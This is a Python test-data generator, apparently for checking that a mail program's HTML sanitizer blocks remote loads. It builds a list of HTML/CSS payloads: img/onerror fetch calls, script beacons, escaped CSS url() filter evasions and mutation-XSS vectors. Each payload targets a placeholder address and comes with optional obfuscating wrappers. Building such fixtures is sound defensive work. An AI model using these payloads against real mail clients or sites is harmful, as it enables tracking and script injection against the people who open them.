"""Documents that load something, or run something, where a mail program shows them as they are.

Ways in are from the HTML and CSS standards, from OWASP's "XSS Filter Evasion Cheat Sheet" and from Cure53's list of
mutations (namespaces that a parser leaves and enters again). Each names `{sink}`, an address that must not be asked.
"""

from collections.abc import Callable, Iterator
from random import Random
from typing import Final, NamedTuple

LOADS: Final = (
    '<img src="{sink}">',
    "<img src={sink}>",
    '<img srcset="{sink} 1x, {sink} 2x">',
    '<img src="/nothing" onerror="fetch(\'{sink}\')">',
    '<picture><source srcset="{sink}"><img></picture>',
    '<input type="image" src="{sink}">',
    '<audio src="{sink}" preload="auto"></audio>',
    '<video src="{sink}" preload="auto"></video>',
    '<video poster="{sink}"></video>',
    '<audio preload="auto"><source src="{sink}"></audio>',
    '<video preload="auto"><source src="{sink}"></video>',
    '<iframe src="{sink}"></iframe>',
    '<iframe srcdoc="&lt;img src={sink}&gt;"></iframe>',
    '<object data="{sink}"></object>',
    '<embed src="{sink}">',
    '<frameset><frame src="{sink}"></frameset>',
    '<script src="{sink}"></script>',
    "<script>fetch('{sink}')</script>",
    "<script>new Image().src = '{sink}'</script>",
    "<script>navigator.sendBeacon('{sink}')</script>",
    '<script type="module">import "{sink}"</script>',
    '<link rel="stylesheet" href="{sink}">',
    '<link rel="icon stylesheet" href="{sink}">',
    '<link rel="preload" as="image" href="{sink}">',
    '<link rel="prefetch" href="{sink}">',
    '<link rel="modulepreload" href="{sink}">',
    "<style>@import '{sink}';</style>",
    "<style>@import url({sink});</style>",
    "<style>p {{ background: url({sink}) }}</style><p>x</p>",
    "<style>p {{ background-image: url('{sink}') }}</style><p>x</p>",
    '<style>p {{ background: image-set("{sink}" 1x) }}</style><p>x</p>',
    "<style>p {{ background: -webkit-image-set(url({sink}) 1x) }}</style><p>x</p>",
    "<style>p::before {{ content: url({sink}) }}</style><p>x</p>",
    "<style>p {{ list-style: url({sink}) inside; display: list-item }}</style><p>x</p>",
    "<style>p {{ border-image: url({sink}) 30 }}</style><p>x</p>",
    "<style>p {{ border-image-source: url({sink}); border-style: solid }}</style><p>x</p>",
    "<style>p {{ mask-image: url({sink}) }}</style><p>x</p>",
    "<style>p {{ -webkit-mask-image: url({sink}) }}</style><p>x</p>",
    "<style>p {{ cursor: url({sink}), auto }}</style><p style='position:fixed;inset:0'>x</p>",
    "<style>p {{ shape-outside: url({sink}); float: left }}</style><p>x</p>",
    "<style>p {{ filter: url({sink}#f) }}</style><p>x</p>",
    "<style>p {{ clip-path: url({sink}#c) }}</style><p>x</p>",
    "<style>@font-face {{ font-family: f; src: url({sink}) }} p {{ font-family: f }}</style><p>x</p>",
    "<style>p {{ --u: url({sink}); background: var(--u) }}</style><p>x</p>",
    "<style>@media all {{ p {{ background: url({sink}) }} }}</style><p>x</p>",
    "<style>@supports (color: red) {{ p {{ background: url({sink}) }} }}</style><p>x</p>",
    "<style>@layer a {{ p {{ background: url({sink}) }} }}</style><p>x</p>",
    '<p style="background: url({sink})">x</p>',
    '<p style="background: u\\72l({sink})">x</p>',
    '<p style="background: \\75 rl({sink})">x</p>',
    '<p style="background: url(&quot;{sink}&quot;)">x</p>',
    '<p style="background:/**/url({sink})">x</p>',
    '<p style="background: URL({sink})">x</p>',
    "<p style=\"background: image-set('{sink}' 1x)\">x</p>",
    '<p style="display: list-item; list-style-image: url({sink})">x</p>',
    '<p style="border: 1px solid; border-image: url({sink}) 30">x</p>',
    '<p style="content: url({sink})">x</p>',
    '<p style="--u: url({sink}); background: var(--u)">x</p>',
    '<body background="{sink}">x</body>',
    '<table background="{sink}"><tr><td>x</td></tr></table>',
    '<table><tr><td background="{sink}">x</td></tr></table>',
    '<svg><image href="{sink}"/></svg>',
    '<svg><image xlink:href="{sink}"/></svg>',
    '<svg><feImage href="{sink}"/><rect filter="url({sink}#f)" width="9" height="9"/></svg>',
    '<svg><script href="{sink}"></script></svg>',
    "<svg><script>fetch('{sink}')</script></svg>",
    "<svg onload=\"fetch('{sink}')\"></svg>",
    '<svg><foreignObject><img src="{sink}"></foreignObject></svg>',
    '<svg><style>@import "{sink}";</style></svg>',
    "<svg><style>p {{ background: url({sink}) }}</style></svg><p>x</p>",
    "<details open ontoggle=\"fetch('{sink}')\">x</details>",
    "<body onload=\"fetch('{sink}')\">x</body>",
    "<input autofocus onfocus=\"fetch('{sink}')\">",
    "<style onload=\"fetch('{sink}')\"></style>",
    '<p style="animation: a 1ms" onanimationstart="fetch(\'{sink}\')">x</p><style>@keyframes a {{ }}</style>',
    '<meta http-equiv="refresh" content="0;url={sink}">',
    '<base href="{sink}/"><img src="x">',
    '<img src="/nothing" onerror="&#102;etch(\'{sink}\')">',
    "<noscript><p title=\"</noscript><img src='{sink}'>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src='{sink}'>\">",
    "<!--><img src={sink}>-->",
    "<![CDATA[><img src={sink}>]]>",
    '<xmp><p title="</xmp><img src={sink}>"></xmp>',
    '<textarea><p title="</textarea><img src={sink}>"></textarea>',
    '<title><p title="</title><img src={sink}>"></title>',
)
WAITS: Final = {  # with what they wait for; they ask for nothing when they are shown
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={sink}&gt;">': "a second parser",
    '<form><math><mtext></form><form><mglyph><style></math><img src="{sink}">': "a second parser",
    "<a href=\"javascript:fetch('{sink}')\">x</a>": "a click on a link",
    "<p onclick=\"fetch('{sink}')\">x</p>": "a click",
    '<form action="{sink}"><button>x</button></form>': "a form that is sent",
    '<a href="data:text/html,&lt;img src={sink}&gt;">x</a>': "a click on a link",
    '<video><track default src="{sink}"></video>': "a track is loaded once the video is",
    '<template><img src="{sink}"></template>': "a template is not shown",
    '<link rel="preconnect" href="{sink}">': "a connection without a request",
}


def _upper(document: str) -> str:
    """Write the names of elements in capitals, which HTML does not mind."""
    return "".join(part.upper() if part.isalpha() else part for part in _tags(document))


def _tags(document: str) -> Iterator[str]:
    head, *rest = document.split("<")
    yield head
    for piece in rest:
        name = "".join(char for char in piece.split(">")[0].split(" ")[0] if char.isalpha())
        yield "<"
        at = piece.find(name) if name and piece.lstrip("/").startswith(name) else 0
        yield piece[:at]
        yield name if at or piece.startswith(name) else ""
        yield piece[at + len(name) :] if at or piece.startswith(name) else piece


def _deep(document: str) -> str:
    return f"{'<div>' * 60}{document}{'</div>' * 60}"


WRAPPINGS: Final[tuple[Callable[[str], str], ...]] = (
    lambda document: document,
    lambda document: f"<html><head><title>x</title></head><body>{document}</body></html>",
    lambda document: f"<!doctype html><html><body><p>Hello</p>{document}<p>x</p></body></html>",
    lambda document: f"<center><b>{document}</b></center>",
    lambda document: f"<!-- x -->{document}<!-- unclosed",
    _upper,
    _deep,
)


class Hostile(NamedTuple):
    way: str
    document: str


def hostile(many: int, sink: Callable[[int], str], seed: int = 0) -> list[Hostile]:
    """Return so many documents, each with an address of its own: every way as it is, then wrapped by chance."""
    random, ways = Random(seed), [*LOADS, *WAITS]  # noqa: S311 - to be repeated
    made = []
    for number in range(many):
        way = ways[number % len(ways)]
        wrap = WRAPPINGS[0] if number < len(ways) else random.choice(WRAPPINGS[1:])
        made.append(Hostile(way, wrap(way.format(sink=sink(number)))))
    return made
